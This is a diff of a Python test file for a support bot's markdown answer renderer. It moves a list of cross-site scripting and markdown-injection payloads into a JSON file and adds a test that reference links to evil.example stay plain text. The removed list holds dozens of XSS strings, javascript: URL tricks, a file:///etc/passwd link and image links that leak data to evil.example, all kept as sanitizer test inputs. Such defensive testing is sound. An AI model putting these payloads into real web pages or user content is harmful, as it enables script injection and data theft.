@@ -1,3 +1,4 @@
+import json
 from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
@@ -12,50 +13,7 @@ from knowledge.text.chunking import chunk
 
 DEMO_DOCUMENTS = Path(__file__).parents[2] / "supportbot" / "demo" / "documents"
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "<a href='javascript:alert(1)'>x</a>",
-    "<style>body{background:url(//evil.example)}</style>",
-    '<link rel="prefetch" href="//evil.example">',
-    "<base href=//evil.example>",
-    "<form action=//evil.example><button>x</button></form>",
-    "<!-- --><script>alert(1)</script>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](vbscript:msgbox)",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.example)",
-    "[x](https://good.example@evil.example)",
-    "[x](https://good.example:pass@evil.example/)",
-    "[x](\\\\evil.example)",
-    "[x][1]\n\n[1]: javascript:alert(1)",
-    "[x](https://a.example 'onmouseover=\"alert(1)')",
-    '[x](https://a.example "\\"><script>alert(1)</script>")',
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/?q=secret)",
-    "![x][1]\n\n[1]: https://evil.example/x.png",
-    "[![x](https://evil.example/x.png)](https://a.example)",
-    '![x](https://a.example/" onerror="alert(1))',
-    "![<script>alert(1)</script>](https://a.example/x.png)",
-    '# <img src=x onerror=alert(1)> {#"><script>}',
-    '# x {#a" onclick="alert(1)}',
-    "```<script>\nx\n```",
-    '```js" onmouseover="alert(1)\nx\n```',
-    "`<script>alert(1)</script>`",
-    "|<script>|\n|---|\n|<img src=x onerror=alert(1)>|",
-    "> <script>alert(1)</script>",
-    "- <svg onload=alert(1)>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-]
+ATTACKS: list[str] = json.loads((Path(__file__).parents[1] / "payloads.json").read_text())
 COSTLY = [
     "[" * 20_000,
     "![" * 10_000,
@@ -120,6 +78,12 @@ def test_links_of_answers_pass_on_nothing():
 
 def test_answers_have_no_images_and_no_links_to_them():
     assert render_answer("![a chart](https://evil.example/?q=1)") == '<p><span class="image">a chart</span></p>\n'
+
+
+def test_a_number_in_an_answer_is_no_link_whatever_it_says_about_it():
+    html = render_answer("It is free [1].\n\n[1]: https://evil.example")
+
+    assert html == "<p>It is free [1].</p>\n<p>[1]: https://evil.example</p>\n"
 
 
 def test_an_image_of_a_document_is_a_link_with_its_description():
